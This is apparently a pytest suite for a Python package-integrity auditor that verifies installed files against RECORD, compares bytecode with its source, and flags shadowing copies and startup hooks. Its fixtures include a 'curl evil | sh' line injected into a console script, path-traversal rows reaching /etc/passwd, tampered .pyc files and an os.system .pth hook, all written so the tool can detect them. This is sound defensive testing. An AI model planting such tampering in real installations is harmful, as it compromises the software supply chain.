"""Edge cases of RECORD, bytecode, shadowing and the tree digest on small hand-made trees.

The real-package behaviour is in test_record_vllm.py; these trees are built by
the tests (with hashes, pycs and RECORD computed the way installers do) to
reach the cases vLLM does not have: hash-based and foreign bytecode, second
distributions, path .pth files, copies ahead on sys.path, odd file names.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import io
import marshal
import os
import posixpath
import py_compile
import stat
import subprocess
import sys
import types
import zipfile
from pathlib import Path

import pytest
from recordtrees import FILES, _nocache, bad, install, record_row, run, wheel_of

from pp1audit.checks.distrecord import RecordError, parse_record
from pp1audit.checks.record import RecordRun
from pp1audit.checks.record_judge import record_checks
from pp1audit.checks.treedigest import tree_digest
from pp1audit.cli.progress import for_terminal
from pp1audit.result import Status
from pp1audit.sources import DirectorySource
from pp1audit.sources.hashing import hash_entries, hash_path
from pp1audit.sources.inventory import FIFO, UNREADABLE, DirInventory


def test_clean_install_passes(tmp_path: Path) -> None:
    checks = run(install(tmp_path / "site"))
    assert bad(checks) == {}
    assert checks["record"].message.startswith("4 of 4 files match pkg-1.0.dist-info/RECORD")
    assert checks["bytecode"].message.startswith("2 bytecode files")


def test_record_parse_errors_name_the_line() -> None:
    with pytest.raises(RecordError, match=r"R:2: bad hash field 'md4=abc'"):
        parse_record(b"a.py,,\nb.py,md4=abc,3\n", "R")
    with pytest.raises(RecordError, match=r"R:1: expected path,hash,size; found 2 fields"):
        parse_record(b"a.py,sha256=x\n", "R")


@pytest.mark.parametrize("value", ["ab$c", "ab+c", "ab/c", "abcd=x", "abc\u00e9"])
def test_record_digests_are_strict_urlsafe_base64(value: str) -> None:
    """A character outside the urlsafe alphabet is a bad row, never skipped (the
    lenient decoder discarded it and decoded the rest)."""
    with pytest.raises(RecordError, match=r"R:1: bad base64 digest"):
        parse_record(f"a.py,sha256={value},3\n".encode(), "R")
    for padded in ("abcd", "abcd=", "abcd=="):  # padding says nothing: tolerated
        assert parse_record(f"a.py,sha256={padded},3\n".encode(), "R")[0].digest == bytes.fromhex("69b71d")


def test_unparseable_record_is_an_error_check(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    rec.write_text(rec.read_text() + "pkg/x.py,sha256=abc,notanumber\n", encoding="utf-8")
    checks = run(root)
    assert checks["record"].status is Status.ERROR
    assert "RECORD:8: bad size 'notanumber'" in checks["record"].message


def _tamper_pyc(root: Path, invalidation: py_compile.PycInvalidationMode) -> Path:
    src = root / "pkg" / "mod.py"
    pyc = Path(importlib.util.cache_from_source(str(src)))
    py_compile.compile(str(src), cfile=str(pyc), invalidation_mode=invalidation, doraise=True)
    header = pyc.read_bytes()[:16]
    code = compile("def answer():\n    return 666\n", str(src), "exec", dont_inherit=True)
    pyc.write_bytes(header + marshal.dumps(code))
    return pyc


def test_unchecked_hash_pyc_is_trusted_by_python_so_it_is_verified(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    _tamper_pyc(root, py_compile.PycInvalidationMode.UNCHECKED_HASH)
    (root / "pkg" / "mod.py").write_text("def answer():\n    return 42  # edited\n")  # not loaded
    checks = bad(run(root))
    key = f"bytecode:pkg/__pycache__/mod.{sys.implementation.cache_tag}.pyc"
    assert set(checks) == {key, "record:pkg/mod.py"}
    assert "unchecked hash-based pyc: Python never looks at the source" in checks[key].message
    assert "only in the bytecode: 666" in checks[key].message


def test_checked_hash_pyc_with_matching_source_hash_is_verified(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    _tamper_pyc(root, py_compile.PycInvalidationMode.CHECKED_HASH)
    checks = bad(run(root))
    assert list(checks) == [f"bytecode:pkg/__pycache__/mod.{sys.implementation.cache_tag}.pyc"]
    assert "checked hash-based pyc whose source hash matches" in next(iter(checks.values())).message


def test_stale_pyc_is_ignored_like_python_does(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    pyc = _tamper_pyc(root, py_compile.PycInvalidationMode.TIMESTAMP)
    data = bytearray(pyc.read_bytes())
    data[8:12] = (int.from_bytes(data[8:12], "little") ^ 1).to_bytes(4, "little")  # mtime off by 1s
    pyc.write_bytes(bytes(data))
    checks = run(root)
    assert bad(checks) == {}
    assert "1 stale" in checks["bytecode"].message


def test_pyc_for_another_interpreter_is_unverifiable_not_failed(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    src = root / "pkg" / "mod.py"
    mine = Path(importlib.util.cache_from_source(str(src)))
    init = Path(importlib.util.cache_from_source(str(root / "pkg" / "__init__.py")))
    for pyc in (mine, init):  # headers that match: that interpreter would load them
        pyc.with_name(pyc.name.replace(sys.implementation.cache_tag, "cpython-399")).write_bytes(
            pyc.read_bytes())
    checks = bad(run(root))
    key = "bytecode:other:pkg/__pycache__/__init__.cpython-399.pyc"
    assert list(checks) == [key]  # one check per foreign interpreter, not per file
    assert checks[key].status is Status.SKIP
    assert checks[key].message == (
        "2 bytecode file(s) for another interpreter "
        "(cpython-399) that it would load instead of their sources (and 1 more): unverifiable "
        f"with {sys.implementation.cache_tag}; run pp1audit under cpython-399 to verify them")


def test_second_distribution_and_module_beside_the_package(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    old = root / "pkg-0.9.dist-info"
    old.mkdir()
    (old / "RECORD").write_text("pkg/old.py,,\n", encoding="utf-8")
    (root / "pkg.py").write_text("answer = 0\n", encoding="utf-8")
    checks = bad(run(root))
    assert set(checks) == {"shadow:pkg-0.9.dist-info", "shadow:pkg.py"}
    assert "second installed distribution for 'pkg': pkg-0.9.dist-info besides pkg-1.0.dist-info" \
        in checks["shadow:pkg-0.9.dist-info"].message


def test_pth_path_to_another_copy_and_copy_ahead_in_the_stdlib(tmp_path: Path) -> None:
    lib = tmp_path / "prefix" / "lib" / "python3.11"
    root = install(lib / "site-packages")
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "pkg").mkdir(parents=True)
    (root / "extra.pth").write_text(f"# a comment\n{elsewhere}\n", encoding="utf-8")
    (lib / "pkg").mkdir()
    checks = bad(run(root))
    assert set(checks) == {"pth:extra.pth:2", f"shadow:{lib / 'pkg'}"}
    assert "another copy of 'pkg' is there" in checks["pth:extra.pth:2"].message
    assert "ahead of the audited copy on sys.path" in checks[f"shadow:{lib / 'pkg'}"].message


def test_wheel_with_executing_pth_and_unlisted_file(tmp_path: Path) -> None:
    root = install(tmp_path / "site", compile_pyc=False)
    whl = wheel_of(root, tmp_path, {"pkg/hook.py": "print('hi')\n", "pkg-hook.pth": "import pkg.hook\n"})
    checks = bad(run(whl))
    assert set(checks) == {"record:pkg/hook.py", "pth:pkg-hook.pth"}
    assert checks["pth:pkg-hook.pth"].message.startswith(
        "pkg-hook.pth executes code at every interpreter start")


def test_tree_digest_equal_for_directory_and_wheel_and_excludes_pycache(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    whl = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as zf:
        for rel in FILES:
            zf.write(root / rel, rel)
    a = run(root)["tree"].actual
    b = run(whl)["tree"].actual
    assert a == b and a is not None
    (root / "pkg" / "data" / "table.json").write_text('{"a": 2}\n', encoding="utf-8")
    assert run(root)["tree"].actual != a


@pytest.mark.skipif(sys.platform != "linux", reason="GNU coreutils sha256sum escaping")
def test_tree_digest_lines_escape_like_gnu_sha256sum(tmp_path: Path) -> None:
    root = tmp_path / "site"
    odd = root / "pkg" / "a\nb\\c.txt"
    odd.parent.mkdir(parents=True)
    odd.write_bytes(b"x")
    (root / "pkg" / "d\re.txt").write_bytes(b"z")  # coreutils 9 escapes a carriage return too
    (root / "pkg" / "plain.txt").write_bytes(b"y")
    inv = DirInventory(str(root))
    entries = inv.walk("pkg")
    got = tree_digest(entries, hash_entries(entries), "pkg").sha256
    out = subprocess.run(["sha256sum", "pkg/a\nb\\c.txt", "pkg/d\re.txt", "pkg/plain.txt"],
                         cwd=root, capture_output=True, check=True).stdout
    assert got == hashlib.sha256(out).hexdigest()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_is_never_opened_even_if_swapped_in_after_listing(tmp_path: Path) -> None:
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    d = hash_path(str(fifo), False)  # the race guard: O_NONBLOCK + fstat
    assert d.sha256 is None and d.error == "is a FIFO; not opened"
    entries = DirInventory(str(tmp_path)).walk("")
    assert [e.kind for e in entries] == [FIFO]
    assert hash_entries(entries)["f"].error == "is a FIFO; not opened"


def test_no_progress_bar_for_json_or_a_pipe(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", io.StringIO())  # not a terminal
    assert for_terminal("json") is None
    assert for_terminal("text") is None


def test_package_directory_target_is_audited_from_its_parent(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    (root / "pkg" / "extra.py").write_text("x = 1\n", encoding="utf-8")
    with DirectorySource(root / "pkg", mount="pkg") as source:
        checks = {c.id: c for c in record_checks(RecordRun("pkg", source, cache=_nocache()))}
    assert set(bad(checks)) == {"record:pkg/extra.py"}
    assert checks["tree"].actual == run(root)["tree"].actual


def test_text_output_of_a_problem(tmp_path: Path, make_files) -> None:  # type: ignore[no-untyped-def]
    from conftest import run_cli

    root = install(tmp_path / "site")
    (root / "pkg" / "mod.py").write_text("def answer():\n    return 43\n", encoding="utf-8")
    manifest = make_files({"m.yaml": "pp1audit: 1\ntarget: {package: pkg, record: true}\n"})
    proc = run_cli("check", str(root), "-m", str(manifest / "m.yaml"),
                   env={"PP1AUDIT_NO_CACHE": "1"})
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr == ""
    line = next(x for x in proc.stdout.splitlines() if x.startswith("fail"))
    assert "record:pkg/mod.py" in line and "Modified: content differs from RECORD (same size)" in line


def test_record_rows_with_another_algorithm(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    data = (root / "pkg" / "mod.py").read_bytes()
    digest = base64.urlsafe_b64encode(hashlib.sha512(data).digest()).rstrip(b"=").decode()
    lines = [x for x in rec.read_text().splitlines() if not x.startswith("pkg/mod.py,")]
    rec.write_text("\n".join([*lines, f"pkg/mod.py,sha512={digest},{len(data)}"]) + "\n")
    assert bad(run(root)) == {}
    (root / "pkg" / "mod.py").write_bytes(data.replace(b"42", b"24"))
    assert set(bad(run(root))) >= {"record:pkg/mod.py"}


def test_console_script_outside_the_root_verified_when_present(tmp_path: Path) -> None:
    root = install(tmp_path / "prefix" / "lib" / "python3.11" / "site-packages")
    script = tmp_path / "prefix" / "bin" / "pkg"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\n", encoding="utf-8")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    row = record_row(root, "../../../bin/pkg")
    rec.write_text(rec.read_text() + ",".join(row) + "\n", encoding="utf-8")
    assert bad(run(root)) == {}
    script.write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")
    assert set(bad(run(root))) == {"record:../../../bin/pkg"}
    script.unlink()  # site-packages copied out on its own: not a finding, but said
    checks = run(root)
    assert bad(checks) == {}
    assert "1 outside the target root not present" in checks["record"].message


def test_sitecustomize_runs_at_startup(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    (root / "sitecustomize.py").write_text("import pkg.mod\n", encoding="utf-8")
    checks = bad(run(root))
    assert list(checks) == ["shadow:sitecustomize.py"]
    assert "imported by site at every interpreter start" in checks["shadow:sitecustomize.py"].message


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_bar_drawn_on_a_terminal_only_for_text(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from pp1audit.cli.progress import TerminalProgress

    fake = _Tty()
    monkeypatch.setattr(sys, "stderr", fake)
    assert for_terminal("json") is None
    bar = for_terminal("text")
    assert isinstance(bar, TerminalProgress)
    root = install(tmp_path / "site")
    entries = DirInventory(str(root)).walk("pkg")
    hash_entries(entries, progress=bar)  # quicker than the 0.5 s delay: nothing drawn
    assert fake.getvalue() == ""
    bar.delay = 0
    hash_entries(entries, progress=bar)
    assert "hashing" in fake.getvalue()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifos_where_small_files_are_read_never_hang(tmp_path: Path) -> None:
    prefix = tmp_path / "venv"
    root = install(prefix / "lib" / "python3.11" / "site-packages")
    os.mkfifo(prefix / "pyvenv.cfg")
    os.mkfifo(root / "evil.pth")
    os.mkfifo(root / "sitecustomize.py")
    checks = bad(run(root))  # would block forever on opening any of them
    assert set(checks) == {"pth:evil.pth", "shadow:sitecustomize.py"}
    assert checks["pth:evil.pth"].message == "evil.pth is a FIFO; not opened"


def test_symlinks_are_reported_not_followed(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    outside = tmp_path / "outside.py"
    outside.write_text("import os\n", encoding="utf-8")
    (root / "pkg" / "mod.py").unlink()
    (root / "pkg" / "mod.py").symlink_to(outside)  # listed file replaced by a link
    (root / "pkg" / "linked").symlink_to(tmp_path)  # a directory link: not descended
    checks = bad(run(root))
    assert set(checks) == {"record:pkg/mod.py", "record:pkg/linked"}
    assert checks["record:pkg/mod.py"].message == (
        "Is a symbolic link, RECORD lists a regular file; not opened")
    assert checks["record:pkg/linked"].actual == f"symbolic link -> {tmp_path}"


def test_copy_in_a_venvs_base_interpreter_stdlib(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    root = install(venv / "lib" / "python3.11" / "site-packages")
    base = tmp_path / "base"
    (base / "bin").mkdir(parents=True)
    (base / "lib" / "python3.11").mkdir(parents=True)
    (base / "lib" / "python3.11" / "os.py").write_text("")  # getpath's landmark
    (base / "lib" / "python3.11" / "pkg.py").write_text("answer = 0\n", encoding="utf-8")
    (venv / "pyvenv.cfg").write_text(f"home = {base / 'bin'}\n", encoding="utf-8")
    (venv / "lib" / "python3.11" / "pkg.py").write_text("\n", encoding="utf-8")  # not on a venv's path
    checks = bad(run(root))
    stdlib_copy = base / "lib" / "python3.11" / "pkg.py"
    assert list(checks) == [f"shadow:{stdlib_copy}"]
    assert checks[f"shadow:{stdlib_copy}"].message == (
        f"another 'pkg' at {stdlib_copy} is ahead of the audited copy on sys.path "
        "(standard library directory): Python imports that one")


@pytest.mark.parametrize("pad", [0, 3 << 20], ids=["in-process", "worker-processes"])
def test_source_too_nested_to_compile_is_an_error_check_not_a_crash(tmp_path: Path,
                                                                    pad: int) -> None:
    # An unchecked hash-based pyc is loaded whatever the source says; the source
    # is nested so deeply that compiling it exhausts the compiler (MemoryError).
    # Past 2 MiB of sources the comparison runs in worker processes.
    root = install(tmp_path / "site")
    pyc = _tamper_pyc(root, py_compile.PycInvalidationMode.UNCHECKED_HASH)
    (root / "pkg" / "mod.py").write_text(
        "#" * pad + "\ndef f():\n    x = " + "-" * 20000 + "1\n", encoding="utf-8")
    checks = bad(run(root))
    key = f"bytecode:{pyc.relative_to(root).as_posix()}"
    assert checks[key].status is Status.ERROR
    assert "could not be compared with its source" in checks[key].message
    assert checks["record:pkg/mod.py"].status is Status.FAIL  # the run went on


def test_wheel_with_a_corrupt_deflate_member_is_a_per_file_error(tmp_path: Path) -> None:
    root = install(tmp_path / "site", compile_pyc=False)
    whl = wheel_of(root, tmp_path)
    with zipfile.ZipFile(whl) as zf:
        info = zf.getinfo("pkg/mod.py")
    data = bytearray(whl.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start] = 0xFF  # deflate block type 3: "invalid block type" (zlib.error)
    whl.write_bytes(bytes(data))
    checks = bad(run(whl))
    assert checks["record:pkg/mod.py"].status is Status.ERROR
    assert "cannot read from the wheel" in checks["record:pkg/mod.py"].message
    from conftest import run_cli

    proc = run_cli("check", str(whl), "--record", "-m", str(_record_manifest(tmp_path)),
                   env={"PP1AUDIT_NO_CACHE": "1"})
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr


def _record_manifest(tmp_path: Path) -> Path:
    man = tmp_path / "m.yaml"
    man.write_text("pp1audit: 1\ntarget: {package: pkg}\n", encoding="utf-8")
    return man


def test_record_rows_outside_the_installation_are_refused_not_opened(tmp_path: Path) -> None:
    prefix = tmp_path / "prefix"
    root = install(prefix / "lib" / "python3.11" / "site-packages")
    (prefix / "bin").mkdir()
    (prefix / "bin" / "pkg").write_text("#!/bin/sh\n", encoding="utf-8")
    secret = tmp_path / "secret.txt"  # a host file beside the prefix
    secret.write_text("root:x:0:0\n", encoding="utf-8")
    (prefix / "bin" / "sneaky").symlink_to(secret)  # in bin/, but resolves outside it
    os.mkfifo(tmp_path / "fifo")  # lstat'ed, it would be reported as a FIFO
    (root / "pkg-1.0.dist-info" / "hostdir").symlink_to(tmp_path)  # a directory link out
    host = [
        ("../" * 9 + "etc/passwd", Path("/etc/passwd")),     # hash matches: would "pass"
        ("pkg-1.0.dist-info/hostdir/secret.txt", secret),    # inside by name only
        ("../../../../secret.txt", secret),
        ("../../../bin/../../../secret.txt", secret),             # bin/.. escapes bin/
        ("../../../bin/sneaky", secret),
        (str(secret), secret),                               # absolute
        ("../../../../fifo", None),
    ]
    rows = [",".join(record_row(root, "../../../bin/pkg"))]
    for rel, real in host:
        if real is None:
            rows.append(f"{rel},sha256=AAAA,4")
            continue
        data = real.read_bytes()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{rel},sha256={digest},{len(data)}")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    rec.write_text(rec.read_text() + "\n".join(rows) + "\n", encoding="utf-8")
    checks = bad(run(root))
    refused = {f"record:{posixpath.normpath(rel)}" for rel, _ in host}
    assert set(checks) == refused  # the real console script still verifies
    for cid in refused:
        c = checks[cid]
        assert c.status is Status.FAIL and c.actual is None
        assert "outside the installation" in c.message and c.message.endswith("not opened")


def test_data_files_under_the_installation_prefix_are_verified(tmp_path: Path) -> None:
    prefix = tmp_path / "prefix"
    root = install(prefix / "lib" / "python3.11" / "site-packages")
    data = prefix / "share" / "pkg" / "data.txt"
    data.parent.mkdir(parents=True)
    data.write_text("payload\n", encoding="utf-8")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    row = ",".join(record_row(root, "../../../share/pkg/data.txt"))
    rec.write_text(rec.read_text() + row + "\n", encoding="utf-8")
    assert bad(run(root)) == {}
    data.write_text("tampered\n", encoding="utf-8")
    changed = bad(run(root))
    assert list(changed) == ["record:../../../share/pkg/data.txt"]
    assert "outside the installation" not in changed["record:../../../share/pkg/data.txt"].message


def _outside_layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A standard layout whose RECORD lists ``../../../bin/sub/tool`` (inside the
    prefix, so admitted), and a host directory beside the prefix holding its own
    ``tool``: (root, ``prefix/bin/sub``, the host directory)."""
    prefix = tmp_path / "prefix"
    root = install(prefix / "lib" / "python3.11" / "site-packages")
    sub = prefix / "bin" / "sub"
    sub.mkdir(parents=True)
    (sub / "tool").write_text("#!/bin/sh\n", encoding="utf-8")
    host = tmp_path / "host"
    host.mkdir()
    (host / "tool").write_text("host secret\n", encoding="utf-8")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    rec.write_text(rec.read_text() + ",".join(record_row(root, "../../../bin/sub/tool")) + "\n",
                   encoding="utf-8")
    return root, sub, host


def _swap_for_link(directory: Path, to: Path) -> None:
    moved = directory.with_name(directory.name + ".moved")
    directory.rename(moved)
    directory.symlink_to(to)


def test_an_admitted_row_is_examined_only_where_its_directory_leads_now(tmp_path: Path) -> None:
    """The row's directories were resolved when it was admitted; ``bin/sub`` swapped for
    a link to a host directory since, the lookup is made in the directory opened and
    asked where it leads: the host file is never ``lstat``ed, its size never shown."""
    from pp1audit.checks.record_judge import _installation

    root, sub, host = _outside_layout(tmp_path)
    inv = DirInventory(str(root))
    allowed = _installation(inv)
    before = inv.entry_outside("../../../bin/sub/tool", allowed)
    assert before is not None and before.kind == "file" and before.root == allowed
    _swap_for_link(sub, host)
    after = inv.entry_outside("../../../bin/sub/tool", allowed)
    assert after is not None and after.kind == UNREADABLE and after.size == 0
    assert after.error == (f"leads outside the installation ({host.resolve()}/tool) since its "
                           "directories were resolved: not examined")


def test_an_admitted_row_swapped_after_it_was_examined_is_not_hashed(tmp_path: Path) -> None:
    """The entry holds the identity found inside and the installation as its root: the
    hashing's open by path, led to the host file by a swap after the lookup, is closed
    unread (its digest would be a leak of a host file's content)."""
    from pp1audit.checks.record_judge import _installation
    from pp1audit.sources.hashing import hash_here

    root, sub, host = _outside_layout(tmp_path)
    inv = DirInventory(str(root))
    entry = inv.entry_outside("../../../bin/sub/tool", _installation(inv))
    assert entry is not None and entry.kind == "file"
    assert hash_here([entry])[entry.path].sha256 is not None  # unswapped: hashed
    _swap_for_link(sub, host)
    got = hash_here([entry])[entry.path]
    assert got.sha256 is None
    assert got.error == f"resolves outside the target root ({host.resolve()}/tool): " \
                        "symlink escape, not read"


def test_bytecode_cache_is_used_only_when_no_one_else_can_write_it(tmp_path: Path) -> None:
    from pp1audit.checks.bytecode import VerifiedCache

    directory = tmp_path / "cache"
    directory.mkdir(mode=0o755)
    key = VerifiedCache.key(b"\x01" * 32, b"\x02" * 32, 0)
    VerifiedCache(directory).add([key])
    assert key in VerifiedCache(directory).keys
    cache_file = next(directory.iterdir())
    assert stat.S_IMODE(cache_file.stat().st_mode) == 0o600
    cache_file.chmod(0o620)  # group-writable: someone else could vouch for a pyc
    assert VerifiedCache(directory).keys == set()
    cache_file.chmod(0o600)
    directory.chmod(0o777)
    assert VerifiedCache(directory).keys == set()


def test_a_pyc_whose_comparison_kills_the_worker_is_that_pairs_error_only(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A C-level crash while judging one pair (hostile bytecode can crash
    ``marshal``) ends that worker process, not the run: the pair is an error and
    every other pyc is still judged. The death is real (the worker kills itself
    with SIGKILL, as the OOM killer would), triggered by a marker in one source."""
    import signal

    import pp1audit.checks.pyccompare as pyccompare

    files = {**FILES, **{f"pkg/m{i}.py": f"VALUE = {i}\n" for i in range(40)}}
    files["pkg/m7.py"] = "VALUE = 'crash the compiler here'\n"
    root = install(tmp_path / "site", files)
    real = pyccompare._compare

    def crashing(source: bytes, pyc: bytes, optimize: int) -> tuple[str, str] | None:
        if b"crash the compiler" in source:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(source, pyc, optimize)

    monkeypatch.setattr(pyccompare, "_compare", crashing)
    checks = run(root)
    pyc = os.path.relpath(importlib.util.cache_from_source(str(root / "pkg/m7.py")), root)
    assert list(bad(checks)) == [f"bytecode:{pyc}"]
    assert bad(checks)[f"bytecode:{pyc}"].status is Status.ERROR
    assert "killed the worker process" in bad(checks)[f"bytecode:{pyc}"].message
    assert checks["bytecode"].message.startswith(f"{len(files) - 2:,} bytecode files")  # the rest judged


def _python(code: str, path: Path, *flags: str) -> str:
    """Run ``code`` in a fresh interpreter that imports from ``path`` and writes bytecode."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    env["PYTHONPATH"] = str(path)
    return subprocess.run([sys.executable, *flags, "-c", code], env=env, capture_output=True,
                          text=True, check=True, timeout=60).stdout.strip()


def test_bytecode_that_is_not_a_regular_file_fails_and_is_never_opened(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    pyc = Path(importlib.util.cache_from_source(str(root / "pkg" / "mod.py")))
    evil = tmp_path / "evil.pyc"  # outside the tree, behind the header Python trusts
    code = compile("def answer():\n    return 666\n", str(root / "pkg" / "mod.py"), "exec",
                   dont_inherit=True)
    evil.write_bytes(pyc.read_bytes()[:16] + marshal.dumps(code))
    pyc.unlink()
    pyc.symlink_to(evil)
    assert _python("import pkg; print(pkg.answer())", root) == "666"  # Python follows the link
    init_pyc = Path(importlib.util.cache_from_source(str(root / "pkg" / "__init__.py")))
    init_pyc.unlink()
    os.mkfifo(init_pyc)  # an import would block on it; so would the audit if it opened it
    unlisted = pyc.with_name(f"extra.{sys.implementation.cache_tag}.pyc")
    unlisted.symlink_to(evil)
    checks = bad(run(root))
    ids = {f"record:{p.relative_to(root).as_posix()}": p for p in (pyc, init_pyc, unlisted)}
    assert set(checks) == set(ids)
    for cid, c in checks.items():
        assert c.status is Status.FAIL
        assert c.message.endswith("where Python reads bytecode (an import opens it and would run "
                                  "or wait on what it finds); not opened"), c.message
        assert c.actual == ("FIFO" if ids[cid] == init_pyc else f"symbolic link -> {evil}")


def _with_function(code: types.CodeType, name: str, **changes: object) -> types.CodeType:
    """``code`` with its top-level function ``name`` changed (``CodeType.replace``)."""
    consts = tuple(c.replace(**changes) if isinstance(c, types.CodeType) and c.co_name == name
                   else c for c in code.co_consts)
    return code.replace(co_consts=consts)


def test_tampering_that_code_equality_cannot_see_fails(tmp_path: Path) -> None:
    """``code == code`` ignores the stack size (too small: the interpreter writes
    past the frame), the qualified name, and specialised instructions (executed
    with whatever inline caches the file holds): the old fallback passed all of
    them. What marshal merely spells differently (which objects are written
    once and referenced depends on the writer's reference counts) still passes."""
    import dis

    root = install(tmp_path / "site", {**FILES, "pkg/attr.py": "def get(o):\n    return o.value\n"})
    src = root / "pkg" / "attr.py"
    pyc = Path(importlib.util.cache_from_source(str(src)))
    header, good = pyc.read_bytes()[:16], pyc.read_bytes()[16:]
    fresh = marshal.loads(good)
    respelled = marshal.dumps(marshal.loads(good))  # a temporary: no reference flag on the module
    assert respelled != good
    pyc.write_bytes(header + respelled)
    assert bad(run(root)) == {}

    fn = fresh.co_consts[0]
    op = fn.co_code.index(dis.opmap["LOAD_ATTR"])
    specialised = good.replace(fn.co_code, fn.co_code[:op] + bytes([dis._all_opmap[  # type: ignore[attr-defined]
        "LOAD_ATTR_INSTANCE_VALUE"]]) + fn.co_code[op + 1:])
    variants = {
        "get.co_stacksize (0 in the bytecode, 1 compiled)":
            marshal.dumps(_with_function(fresh, "get", co_stacksize=0)),
        "get.co_qualname ('innocent' in the bytecode, 'get' compiled)":
            marshal.dumps(_with_function(fresh, "get", co_qualname="innocent")),
        "get._co_code_adaptive": specialised,
    }
    key = f"bytecode:{pyc.relative_to(root).as_posix()}"
    for why, body in variants.items():
        assert marshal.loads(body) == fresh  # invisible to code equality
        pyc.write_bytes(header + body)
        checks = bad(run(root))
        assert list(checks) == [key]
        assert checks[key].message.endswith(
            f"its code differs from compiling the source; differs in {why}"), checks[key].message


def test_cache_entries_from_an_older_comparison_rule_are_not_trusted(tmp_path: Path) -> None:
    from pp1audit.checks.bytecode import VerifiedCache

    root = install(tmp_path / "site")
    src = root / "pkg" / "mod.py"
    pyc = Path(importlib.util.cache_from_source(str(src)))
    data = pyc.read_bytes()
    pyc.write_bytes(data[:16] + marshal.dumps(_with_function(marshal.loads(data[16:]), "answer",
                                                             co_stacksize=0)))
    cache_dir = tmp_path / "cache"
    cache_dir.mkdir(mode=0o700)
    sha = [hashlib.sha256(p.read_bytes()).digest() for p in (pyc, src)]
    old_key = VerifiedCache.key(*sha, 0).rsplit(" ", 1)[0]  # rule 1 vouched for this pair
    VerifiedCache(cache_dir).add([old_key])
    with DirectorySource(root) as source:
        checks = {c.id: c for c in record_checks(RecordRun("pkg", source, cache=VerifiedCache(cache_dir)))}
    assert list(bad(checks)) == [f"bytecode:{pyc.relative_to(root).as_posix()}"]
    lines = next(cache_dir.iterdir()).read_text().splitlines()
    assert lines[0] == old_key and lines[1:] and all(x.endswith(" c2") for x in lines[1:])


def test_optimized_bytecode_python_loads_under_OOO_is_compared(tmp_path: Path) -> None:
    root = install(tmp_path / "site", {"pkg/__init__.py": '"""doc"""\n',
                                       "pkg/mod.py": '"""doc"""\nassert False\nX = 1\n'})
    assert _python("import pkg.mod as m; print(m.__cached__)", root, "-OOO").endswith(".opt-3.pyc")
    checks = run(root)
    assert bad(checks) == {}
    assert checks["bytecode"].message.startswith("4 bytecode files")  # 2 plain + 2 opt-3
    opt3 = Path(_python("import pkg.mod as m; print(m.__cached__)", root, "-OOO"))
    header = opt3.read_bytes()[:16]
    evil = compile("X = 666\n", str(root / "pkg" / "mod.py"), "exec", dont_inherit=True, optimize=2)
    opt0 = opt3.with_name(opt3.name.replace(".opt-3.", ".opt-0."))  # a name no import asks for
    opt0.write_bytes(header + marshal.dumps(evil))
    assert bad(run(root)) == {}
    opt3.write_bytes(header + marshal.dumps(evil))
    assert list(bad(run(root))) == [f"bytecode:{opt3.relative_to(root).as_posix()}"]


def test_a_source_that_grew_since_the_listing_makes_its_bytecode_stale_not_tampered(
        tmp_path: Path) -> None:
    from pp1audit.checks.bytecode import check_bytecode, keep_for_bytecode

    root = install(tmp_path / "site")
    files = DirInventory(str(root)).walk("pkg")  # the listing: mod.py as its pyc header says
    with (root / "pkg" / "mod.py").open("a", encoding="utf-8") as f:
        f.write("import os\n")  # then it grows, keeping nothing of the old mtime's meaning
    digests = hash_entries(files, keep=keep_for_bytecode)
    rep = check_bytecode(files, digests, cache=_nocache())
    assert rep.findings == [] and rep.stale == 1


def test_a_pth_vouched_for_only_by_a_bare_dist_info_fails(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    pth = root / "zzz_evil.pth"
    pth.write_text("import os; os.system('true')\n", encoding="utf-8")
    helper = root / "helper-1.0.dist-info"
    helper.mkdir()
    (helper / "RECORD").write_text(",".join(record_row(root, "zzz_evil.pth")) + "\n",
                                   encoding="utf-8")
    checks = bad(run(root))
    assert list(checks) == ["pth:zzz_evil.pth"]
    assert checks["pth:zzz_evil.pth"].message == (
        "zzz_evil.pth executes code at every interpreter start (only helper-1.0.dist-info lists "
        "it, which has no METADATA: not an installed distribution): line 1: import os; "
        "os.system('true'); file sha256 "
        + hashlib.sha256(pth.read_bytes()).hexdigest()[:12])
